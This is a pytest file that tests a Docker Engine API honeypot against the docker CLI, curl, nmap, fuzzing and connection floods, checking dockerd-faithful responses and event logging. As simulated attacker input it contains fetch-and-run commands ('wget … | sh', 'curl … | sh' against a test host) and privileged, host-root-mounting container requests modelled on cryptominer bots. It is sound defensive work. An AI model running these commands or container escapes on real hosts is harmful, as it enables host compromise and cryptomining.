# SPDX-License-Identifier: MIT
"""The Docker Engine API trap against real clients on loopback: Debian's ``docker`` CLI
(docker.io 20.10.24), curl, nmap, raw sockets (fuzz, flood), and a real HTTP server that
serves the script a container's command tells it to ``wget``.

dockerd itself cannot run here; the bytes it would send are those of moby 20.10's source
(api/server/middleware/version.go, experimental.go, router/system pingHandler, httputils
MakeErrorHandler/WriteJSON) laid out by Go 1.19's net/http, written down below as EXPECTED_*.
"""

from __future__ import annotations

import json
import os
import random
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from payloadserver import serve_payload
from sensorutil import SensorProc, free_port, need, rss_kb, run_sensor, wait_port

DOCKER = "/usr/bin/docker"  # Debian's docker.io client (another docker may be earlier in PATH)
VERSION = "20.10.24+dfsg1"
MIDDLEWARE = [  # sorted, as Go writes a header map
    "Api-Version: 1.41",
    "Docker-Experimental: false",
    "Ostype: linux",
    f"Server: Docker/{VERSION} (linux)",
]
PAYLOAD = b"#!/bin/sh\necho pwned-by-docker\n"
HITS: list[str] = []  # paths the payload server was asked for
DATE = re.compile(r"^Date: [A-Z][a-z]{2}, \d\d [A-Z][a-z]{2} \d{4} \d\d:\d\d:\d\d GMT$")


@pytest.fixture(scope="module")
def payload_server() -> Iterator[int]:
    with serve_payload(PAYLOAD, HITS) as port:
        yield port


def overrides(port: int, **extra: Any) -> dict[str, dict[str, Any]]:
    return {
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
        "sensor.docker": {"enabled": True, "listen": [f"127.0.0.1:{port}"], **extra},
        "sensor.downloads": {"allow_loopback": True},
        "sensor.limits": {"max_per_ip": 600},
    }


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    workdir = tmp_path_factory.mktemp("docker-trap")
    port = free_port()
    with run_sensor(workdir, overrides(port, idle_timeout=5.0, max_containers=8)) as sp:
        wait_port(port, proc=sp.proc)
        yield sp, port


def cli(port: int, home: Path, *args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    home.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("DOCKER_")}
    env.update(HOME=str(home), DOCKER_CONFIG=str(home / ".docker"), DOCKER_HOST=f"tcp://127.0.0.1:{port}")
    return subprocess.run([DOCKER, *args], env=env, input=stdin, capture_output=True, timeout=60, check=False)


def raw(port: int, data: bytes, wait: float = 1.5) -> bytes:
    """Send ``data`` and read until the server closes or is quiet for ``wait`` seconds."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(data)
        s.settimeout(wait)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except (TimeoutError, ConnectionResetError):
            pass
    return out


def head_lines(response: bytes) -> tuple[list[str], bytes]:
    head, _, body = response.partition(b"\r\n\r\n")
    return head.decode().split("\r\n"), body


def of(evs: list[dict[str, Any]], eventid: str, **match: Any) -> list[dict[str, Any]]:
    return [e for e in evs if e["eventid"] == eventid and all(e.get(k) == v for k, v in match.items())]


needs_docker = pytest.mark.skipif(not Path(DOCKER).exists(), reason=f"{DOCKER} missing (apt install docker.io)")


# --- the docker CLI ---------------------------------------------------------------------------------


@needs_docker
def test_docker_version_info_ps_pull_succeed(trap: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = trap
    v = cli(port, tmp_path, "version")
    assert v.returncode == 0, v.stderr
    out = v.stdout.decode()
    assert re.search(rf"Server:\s+Engine:\s+Version:\s+{re.escape(VERSION)}", out), out
    assert "API version:      1.41 (minimum version 1.12)" in out
    i = cli(port, tmp_path, "info")
    assert i.returncode == 0, i.stderr
    assert "Operating System: Debian GNU/Linux 12 (bookworm)" in i.stdout.decode()
    assert b"without encryption" in i.stderr  # dockerd's own warning for tcp:// without TLS
    ps = cli(port, tmp_path, "ps")
    assert ps.returncode == 0 and ps.stdout.decode().startswith("CONTAINER ID"), ps
    pull = cli(port, tmp_path, "pull", "alpine")
    assert pull.returncode == 0, pull.stderr
    assert "Status: Downloaded newer image for alpine:latest" in pull.stdout.decode()
    again = cli(port, tmp_path, "pull", "alpine")
    assert "Status: Image is up to date for alpine:latest" in again.stdout.decode()
    images = cli(port, tmp_path, "images", "--format", "{{.Repository}}:{{.Tag}}").stdout.decode().split()
    assert "alpine:latest" in images and "nginx:latest" in images
    evs = sp.wait_for(lambda e: len(of(e, "docker.image.pull")) >= 2)
    pull_ev = of(evs, "docker.image.pull")[0]
    assert pull_ev["image"] == "alpine:latest" and pull_ev["tag"] == "latest"
    reqs = of(evs, "docker.request.received", path="/_ping")
    assert reqs and reqs[0]["client_version"] == f"Docker-Client/{VERSION} (linux)"


@needs_docker
def test_docker_run_attached_logs_the_command_and_fetches_its_url(
    trap: tuple[SensorProc, int], tmp_path: Path, payload_server: int
) -> None:
    sp, port = trap
    url = f"http://127.0.0.1:{payload_server}/x.sh"
    run = cli(port, tmp_path, "run", "--rm", "busybox", "sh", "-c", f"wget {url} -O- | sh")
    assert run.returncode == 0, run.stderr  # exit code from /wait, streams from the hijacked attach
    assert b"Unable to find image 'busybox:latest' locally" in run.stderr  # 404 on create, then a pull
    evs = sp.wait_for(
        lambda e: bool(of(e, "cowrie.session.file_download", url=url) and of(e, "docker.container.start"))
    )
    created = of(evs, "docker.container.create", image="busybox", created=True)
    assert created and created[0]["command"] == f"sh -c 'wget {url} -O- | sh'"
    assert created[0]["cmd"] == ["sh", "-c", f"wget {url} -O- | sh"] and created[0]["auto_remove"] is True
    assert of(evs, "docker.container.create", image="busybox", created=False)[0]["error"] == (
        "No such image: busybox:latest"
    )
    assert of(evs, "docker.container.start", container_id=created[0]["container_id"])
    dl = of(evs, "cowrie.session.file_download", url=url)[0]
    assert dl["trap"] == "docker" and dl["request"] == "containers/create" and dl["sha256"]
    assert "/x.sh" in HITS
    ps = cli(port, tmp_path, "ps", "-a", "-q").stdout.decode().split()
    assert created[0]["container_id"][:12] not in ps  # --rm: removed once it "exited"
    ident = cli(port, tmp_path, "run", "--rm", "nginx", "sh", "-c", "id && uname -r; echo done")
    assert (
        ident.returncode == 0
        and ident.stdout == b"uid=0(root) gid=0(root) groups=0(root)\n6.1.0-28-cloud-amd64\ndone\n"
    )


@needs_docker
def test_docker_run_detached_privileged_bind_and_exec(
    trap: tuple[SensorProc, int], tmp_path: Path, payload_server: int
) -> None:
    sp, port = trap
    url = f"http://127.0.0.1:{payload_server}/miner.sh"
    assert cli(port, tmp_path, "pull", "alpine").returncode == 0
    run = cli(port, tmp_path, "run", "-d", "--privileged", "-v", "/:/mnt", "--name", "xmr", "alpine",
              "chroot", "/mnt", "sh", "-c", f"curl -fsSL {url} | sh")  # fmt: skip
    assert run.returncode == 0, run.stderr
    cid = run.stdout.decode().strip()
    assert re.fullmatch(r"[0-9a-f]{64}", cid)
    ps = cli(port, tmp_path, "ps", "--format", "{{.Names}} {{.Status}}")
    assert ps.stdout.decode().startswith("xmr Up"), ps.stdout
    inspect = json.loads(cli(port, tmp_path, "inspect", "xmr").stdout)
    assert inspect[0]["HostConfig"]["Privileged"] is True and inspect[0]["HostConfig"]["Binds"] == ["/:/mnt"]
    ex = cli(port, tmp_path, "exec", "xmr", "sh", "-c", f"wget -q {url}2 -O /tmp/k; id")
    assert ex.returncode == 0, ex.stderr
    assert cli(port, tmp_path, "exec", "xmr", "cat", "/etc/hostname").stdout.decode() == cid[:12] + "\n"
    assert cli(port, tmp_path, "logs", "xmr").stdout == b""  # a pipe to sh prints nothing known
    piped = cli(port, tmp_path, "exec", "-i", "xmr", "sh", stdin=f"curl {url}3 | sh\n".encode())
    assert piped.returncode == 0, piped.stderr
    evs = sp.wait_for(lambda e: all(of(e, "cowrie.session.file_download", url=url + n) for n in ("", "2", "3")))
    c = of(evs, "docker.container.create", container_id=cid)[0]
    assert c["privileged"] is True and c["binds"] == ["/:/mnt"] and c["name"] == "xmr"
    assert c["command"] == f"chroot /mnt sh -c 'curl -fsSL {url} | sh'"
    ex_ev = of(evs, "docker.exec.create", container_id=cid)
    assert ex_ev[0]["command"] == f"sh -c 'wget -q {url}2 -O /tmp/k; id'"
    stdin = of(evs, "docker.stream.input", container_id=cid)
    assert stdin and stdin[0]["command"] == f"curl {url}3 | sh\n"
    fetched = {e["url"]: e["request"] for e in of(evs, "cowrie.session.file_download", trap="docker")}
    assert fetched[url] == "containers/create" and fetched[url + "2"] == "containers/exec"
    assert fetched[url + "3"] == "exec/start"
    assert cli(port, tmp_path, "kill", "xmr").returncode == 0
    assert cli(port, tmp_path, "rm", "xmr").returncode == 0
    gone = cli(port, tmp_path, "inspect", "xmr")
    assert gone.returncode == 1 and b"No such object: xmr" in gone.stderr


@needs_docker
def test_piped_stdin_of_an_attached_run_is_logged(trap: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = trap
    script = b"cd /tmp; wget http://203.0.113.9/b.sh; sh b.sh\n"
    run = cli(port, tmp_path, "run", "-i", "--rm", "alpine", "sh", stdin=script)
    assert run.returncode == 0, run.stderr
    evs = sp.wait_for(lambda e: bool(of(e, "docker.stream.input", command=script.decode())))
    ev = of(evs, "docker.stream.input", command=script.decode())[0]
    assert ev["urls"] == ["http://203.0.113.9/b.sh"] and ev["size"] == len(script)


def test_state_is_per_address_and_bounded(trap: tuple[SensorProc, int]) -> None:
    _sp, port = trap
    body = b'{"Image":"nginx:latest","Cmd":["x"]}'
    req = (
        b"POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
    )
    for _ in range(12):
        assert b"201 Created" in raw(port, req)
    listing = raw(port, b"GET /containers/json?all=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    body = listing.partition(b"\r\n\r\n")[2]
    if b"Transfer-Encoding: chunked" in listing:
        body = b"".join(body.split(b"\r\n")[1::2])
    names = [c["Names"][0] for c in json.loads(body) if c["Image"] == "nginx:latest"]
    assert len(names) == 8  # max_containers: the oldest were forgotten


# --- the bytes on the wire, as dockerd 20.10 writes them ----------------------------------------------


def test_ping_version_and_errors_match_dockerd(trap: tuple[SensorProc, int]) -> None:
    _sp, port = trap
    lines, body = head_lines(raw(port, b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
    assert lines[0] == "HTTP/1.1 200 OK" and body == b"OK"
    assert lines[1:4] == ["Api-Version: 1.41", "Cache-Control: no-cache, no-store, must-revalidate", MIDDLEWARE[1]]
    assert lines[4:7] == [MIDDLEWARE[2], "Pragma: no-cache", MIDDLEWARE[3]]
    assert DATE.match(lines[7]) and lines[8:] == ["Content-Length: 2", "Content-Type: text/plain; charset=utf-8",
                                                   "Connection: close"]  # fmt: skip
    lines, body = head_lines(raw(port, b"HEAD /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
    assert lines[1:5] == ["Api-Version: 1.41", "Cache-Control: no-cache, no-store, must-revalidate",
                          "Content-Length: 0", "Content-Type: text/plain; charset=utf-8"]  # fmt: skip
    assert body == b""
    lines, body = head_lines(raw(port, b"GET /v1.41/version HTTP/1.0\r\n\r\n"))
    assert lines[0] == "HTTP/1.0 200 OK"
    assert lines[1:6] == [MIDDLEWARE[0], "Content-Type: application/json", *MIDDLEWARE[1:]]
    assert DATE.match(lines[6]) and lines[7] == f"Content-Length: {len(body)}" and len(lines) == 8
    doc = json.loads(body)
    assert list(doc)[:3] == ["Platform", "Components", "Version"] and doc["MinAPIVersion"] == "1.12"
    # Unknown path: the router's NotFoundHandler, without the middlewares' headers (nmap's softmatch).
    resp = raw(port, b"GET / HTTP/1.0\r\n\r\n")
    assert re.fullmatch(
        rb"HTTP/1\.0 404 Not Found\r\nContent-Type: application/json\r\nDate: [^\r]+\r\n"
        rb'Content-Length: 29\r\n\r\n\{"message":"page not found"\}\n',
        resp,
    ), resp
    lines, _ = head_lines(raw(port, b"OPTIONS / HTTP/1.0\r\n\r\n"))
    assert lines[0] == "HTTP/1.0 200 OK" and lines[1:5] == MIDDLEWARE and lines[6] == "Content-Length: 0"
    _, body = head_lines(raw(port, b"GET /v1.99/info HTTP/1.0\r\n\r\n"))
    assert json.loads(body) == {"message": "client version 1.99 is too new. Maximum supported API version is 1.41"}
    _, body = head_lines(raw(port, b"GET /containers/nope/json HTTP/1.0\r\n\r\n"))
    assert body == b'{"message":"No such container: nope"}\n'
    assert raw(port, b"GET /version HTTP/1.1\r\n\r\n") == (  # nmap's docker probe: Go wants a Host
        b"HTTP/1.1 400 Bad Request: missing required Host header\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Connection: close\r\n\r\n400 Bad Request: missing required Host header"
    )
    assert raw(port, b"HELP\r\n") == (
        b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n"
        b"400 Bad Request"
    )
    assert raw(port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", wait=1.0) == b""  # no newline: Go waits
    lines, _ = head_lines(raw(port, b"GET //v1.41//version HTTP/1.0\r\n\r\n"))
    assert lines[0] == "HTTP/1.0 301 Moved Permanently" and lines[1] == "Location: /v1.41/version"


@pytest.mark.skipif(need("curl") is not None, reason=str(need("curl")))
def test_curl_sees_dockerd_headers(trap: tuple[SensorProc, int]) -> None:
    _sp, port = trap
    out = subprocess.run(["curl", "-si", "--max-time", "10", f"http://127.0.0.1:{port}/version"],
                         capture_output=True, timeout=20, check=True).stdout  # fmt: skip
    lines, body = head_lines(out)
    assert lines[1:6] == [MIDDLEWARE[0], "Content-Type: application/json", *MIDDLEWARE[1:]]
    assert json.loads(body)["Version"] == VERSION
    out = subprocess.run(["curl", "-s", f"http://127.0.0.1:{port}/v1.41/containers/abc/start", "-X", "POST"],
                         capture_output=True, timeout=20, check=True).stdout  # fmt: skip
    assert out == b'{"message":"No such container: abc"}\n'
    out = subprocess.run(["curl", "-s", "-w", "%{http_code}", f"http://127.0.0.1:{port}/containers/json", "-X", "PUT"],
                         capture_output=True, timeout=20, check=True).stdout  # fmt: skip
    assert out == b'{"message":"page not found"}\n404'  # a wrong method is mux's MethodNotAllowedHandler


@pytest.mark.skipif(need("curl") is not None, reason=str(need("curl")))
def test_a_bots_curl_session_is_logged_even_when_refused(trap: tuple[SensorProc, int], payload_server: int) -> None:
    sp, port = trap
    url = f"http://127.0.0.1:{payload_server}/env.sh"
    host = {"Binds": ["/etc:/host/etc"], "PidMode": "host", "CapAdd": ["SYS_ADMIN"]}
    body = json.dumps({"Image": "nginx", "Cmd": ["sh", "-c", "$P"], "Env": [f"P=curl {url}|sh"], "HostConfig": host})
    base = ["curl", "-s", "--max-time", "10", "-X", "POST", "-d", body]
    create = f"http://127.0.0.1:{port}/v1.24/containers/create?name=kdevtmpfsi"
    out = subprocess.run([*base, create], capture_output=True, timeout=20, check=True).stdout  # form content type
    assert (
        out
        == b'{"message":"Content-Type specified (application/x-www-form-urlencoded) must be \'application/json\'"}\n'
    )
    out = subprocess.run([*base, "-H", "Content-Type: application/json", create],
                         capture_output=True, timeout=20, check=True).stdout  # fmt: skip
    cid = json.loads(out)["Id"]
    out = subprocess.run(["curl", "-s", "-w", "%{http_code}", "-X", "POST", f"http://127.0.0.1:{port}/v1.24/containers/{cid[:6]}/start"],
                         capture_output=True, timeout=20, check=True).stdout  # fmt: skip
    assert out == b"204"
    evs = sp.wait_for(
        lambda e: bool(
            of(e, "cowrie.session.file_download", url=url) and of(e, "docker.container.start", container_id=cid)
        )
    )
    refused, created = of(evs, "docker.container.create", name="kdevtmpfsi")
    assert refused["created"] is False and refused["error"].startswith("Content-Type specified")
    assert created["created"] is True and created["container_id"] == cid
    for ev in (refused, created):
        assert ev["env"] == [f"P=curl {url}|sh"] and ev["binds"] == ["/etc:/host/etc"]
        assert ev["pid_mode"] == "host" and ev["cap_add"] == ["SYS_ADMIN"]
    assert of(evs, "docker.container.start", container_id=cid)


@pytest.mark.skipif(need("nmap") is not None, reason=str(need("nmap")))
def test_nmap_names_it_docker(trap: tuple[SensorProc, int]) -> None:
    _sp, port = trap
    out = subprocess.run(
        ["nmap", "-sV", "-Pn", "-n", "--host-timeout", "120s", "-p", str(port), "127.0.0.1"],
        capture_output=True, timeout=180, check=True,
    ).stdout.decode()  # fmt: skip
    line = next(ln for ln in out.splitlines() if ln.startswith(f"{port}/tcp"))
    print(line)
    assert re.search(rf"open\s+docker\s+Docker {re.escape(VERSION)}", line), out


# --- hostile input ------------------------------------------------------------------------------------


def test_fuzz_garbage_truncated_huge_and_deep_requests(trap: tuple[SensorProc, int]) -> None:
    sp, port = trap
    rng = random.Random(12)
    create = b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    cases = [
        create + b"Content-Length: %d\r\n\r\n" % (4 * 1024 * 1024) + b"{" * 1000,  # over max_body_bytes
        create + b"Content-Length: 200011\r\n\r\n" + b'{"Cmd":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        create + b"Content-Length: 20\r\n\r\n" + b'{"Image": 12, "Cmd"',  # truncated JSON
        create + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"GET /_ping HTTP/1.1\r\nHost: x\r\n" + b"X-Big: " + b"a" * 70_000 + b"\r\n\r\n",
        b"GET /_ping HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(500)) + b"\r\n",
        b"GET /" + b"%" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /containers/x/attach?stream=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n",
        b"POST /exec/" + b"f" * 64 + b"/start HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    ]
    for _ in range(150):
        n = rng.randrange(1, 3000)
        cases.append(bytes(rng.randrange(256) for _ in range(n)))
        good = b"POST /v1.41/containers/create?name=a HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\n"
        cases.append(good[: rng.randrange(len(good))])
    started = time.monotonic()
    with ThreadPoolExecutor(16) as pool:
        list(pool.map(lambda d: raw(port, d, wait=0.3), cases))
    assert time.monotonic() - started < 120
    assert raw(port, b"GET /_ping HTTP/1.0\r\n\r\n").endswith(b"\r\n\r\nOK")
    assert sp.proc is not None and sp.proc.poll() is None
    evs = sp.wait_for(lambda e: len(of(e, "docker.request.received")) > 50)
    assert any("error" in e for e in of(evs, "docker.request.received"))


def _random_json(rng: random.Random, depth: int = 0) -> Any:
    kind = rng.randrange(7 if depth < 4 else 4)
    if kind == 0:
        return rng.choice([None, True, False, 0, -1, 2**63, 1.5])
    if kind in (1, 2, 3):
        return rng.choice(["", "alpine", "/:/mnt", "a" * 3000, "\u0000\ud800", "sh", "host", "../../etc"])
    if kind in (4, 5):
        return [_random_json(rng, depth + 1) for _ in range(rng.randrange(5))]
    keys = ["Image", "Cmd", "Entrypoint", "Env", "HostConfig", "Binds", "Mounts", "Privileged", "Tty", "User"]
    return {rng.choice(keys): _random_json(rng, depth + 1) for _ in range(rng.randrange(6))}


def test_fuzz_api_bodies_never_get_a_server_error(trap: tuple[SensorProc, int]) -> None:
    sp, port = trap
    rng = random.Random(7)
    body = b'{"Image":"nginx:latest","Cmd":["sleep","1d"]}'
    head = b"Host: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
    out = raw(port, b"POST /containers/create HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (head, len(body), body))
    cid = json.loads(out.partition(b"\r\n\r\n")[2])["Id"].encode()
    assert b"204" in raw(port, b"POST /containers/%s/start HTTP/1.1\r\n%sContent-Length: 0\r\n\r\n" % (cid, head))
    targets = [b"/containers/create", b"/containers/%s/exec" % cid, b"/exec/%s/start" % cid, b"/images/create"]
    statuses: list[int] = []
    for i in range(300):
        doc = json.dumps(_random_json(rng)).encode()
        if i % 2:
            doc = {"Image": "nginx:latest", **{"HostConfig": _random_json(rng)}} if i % 4 == 1 else doc
            doc = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
        req = b"POST %s HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (rng.choice(targets), head, len(doc), doc)
        statuses.append(int(raw(port, req, wait=0.5)[9:12] or b"0"))
    assert 500 not in statuses and 0 not in statuses, sorted(set(statuses))
    assert {201, 400, 404} <= set(statuses)
    assert sp.proc is not None and sp.proc.poll() is None


def test_flood_of_connections_leaves_the_sensor_up(trap: tuple[SensorProc, int]) -> None:
    sp, port = trap
    assert sp.proc is not None
    before = rss_kb(sp.proc.pid)
    socks: list[socket.socket] = []
    started = time.monotonic()
    for i in range(400):  # held open at once: idle, half a request, a whole one
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        if i % 3 == 1:
            s.sendall(b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n{")
        elif i % 3 == 2:
            s.sendall(b"GET /info HTTP/1.1\r\nHost: x\r\n\r\n")
        socks.append(s)
    assert raw(port, b"GET /_ping HTTP/1.0\r\n\r\n").endswith(b"OK")
    for s in socks:
        s.close()
    during = rss_kb(sp.proc.pid)
    print(f"flood: 400 connections in {time.monotonic() - started:.2f}s, RSS {before} -> {during} kB")
    assert sp.proc.poll() is None
    assert during - before < 64 * 1024
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if raw(port, b"GET /_ping HTTP/1.0\r\n\r\n").endswith(b"OK"):
            break
        time.sleep(0.2)
    else:
        pytest.fail("the trap did not answer after the flood")
